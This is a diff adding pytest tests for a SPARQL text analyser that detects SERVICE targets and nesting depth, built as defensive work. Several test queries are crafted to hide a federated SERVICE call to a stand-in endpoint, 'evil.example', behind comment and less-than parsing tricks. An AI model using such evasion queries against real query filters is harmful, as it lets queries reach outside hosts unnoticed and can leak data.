@@ -7,6 +7,7 @@ import json
 import subprocess
 import sys
 
+import pyoxigraph as ox
 import pytest
 from plan_facts import EXPECTED
 
@@ -375,3 +376,65 @@ def test_comments_are_removed_but_not_hashes_in_iris_or_strings():
     stripped = without_comments(query)
     assert "Load" not in stripped and "end" not in stripped
     assert "<https://w3id.org/plan-graph/ontology#>" in stripped and '"a # b"' in stripped
+
+
+EVIL = "<http://evil.example/sparql>"
+XSD_BOOLEAN = "<http://www.w3.org/2001/XMLSchema#boolean>"
+
+
+def oxigraph_runs(query: str) -> None:
+    """Oxigraph's parser, the reference: it reads the query, and its SERVICE call stops at port 1."""
+    try:
+        list(ox.Store().query(query.replace("http://evil.example/sparql", "http://127.0.0.1:1/sparql")))
+    except OSError as error:
+        assert "port 1" in str(error)
+
+
+@pytest.mark.parametrize(
+    "query",
+    [  # a less-than followed by text up to a ">" in a comment: read as one IRI, it hid the SERVICE
+        "SELECT * { FILTER(?a<?b)SERVICE#>\n " + EVIL + " {} }",
+        "PREFIX xsd: <http://www.w3.org/2001/XMLSchema#> SELECT * { FILTER xsd:boolean(?a<?b)SERVICE#>\n "
+        + EVIL
+        + " {} }",
+        "SELECT * { FILTER " + XSD_BOOLEAN + "(?a<?b)SERVICE#>\n " + EVIL + " {} }",
+    ],
+)
+def test_a_service_behind_a_less_than_is_found(query):
+    from plan_graph.sparql_text import service_targets
+
+    with pytest.raises(OSError, match="port 1"):  # Oxigraph does call it
+        list(ox.Store().query(query.replace("http://evil.example/sparql", "http://127.0.0.1:1/sparql")))
+    assert service_targets(query) == ["http://evil.example/sparql"]
+
+
+@pytest.mark.parametrize(
+    "query",
+    [  # real IRIs with a "#": read as less-than, they would turn the rest of the line into a comment
+        "SELECT * { BIND(<http://x/#a> AS ?o) FILTER(?o = <http://x/#a>) SERVICE " + EVIL + " {} }",
+        "SELECT * { ?s <http://p> (?a <http://b/#>) . SERVICE " + EVIL + " {} }",
+        "PREFIX ex: <http://x/> SELECT * { ?s ex:p (?a <http://b/#>) . SERVICE " + EVIL + " {} }",
+        "SELECT * { VALUES (?a ?b) { (<http://a/#> <http://b/#>) } SERVICE " + EVIL + " {} }",
+        "SELECT * { BIND(1 AS ?a) FILTER(?a IN (<http://a/#>, <http://b/#>)) SERVICE " + EVIL + " {} }",
+    ],
+)
+def test_iris_are_read_as_iris_where_the_grammar_has_terms(query):
+    from plan_graph.sparql_text import service_targets
+
+    oxigraph_runs(query)
+    assert service_targets(query) == ["http://evil.example/sparql"]
+
+
+@pytest.mark.parametrize(
+    ("query", "depth"),
+    [
+        ("SELECT * { FILTER(?o<" + "(" * 300 + "1" + ")" * 300 + ")#>\n }", 302),
+        ("SELECT * { { SELECT ?x WHERE {} GROUP BY ?x (?o<((1)))#>\n } }", 5),
+        ("SELECT ?x WHERE { ?x ?p ?o } ORDER BY (?o<((1)))#>\n", 3),
+    ],
+)
+def test_nesting_behind_a_less_than_is_counted(query, depth):
+    from plan_graph.sparql_text import nesting_depth
+
+    oxigraph_runs(query)
+    assert nesting_depth(query) == depth
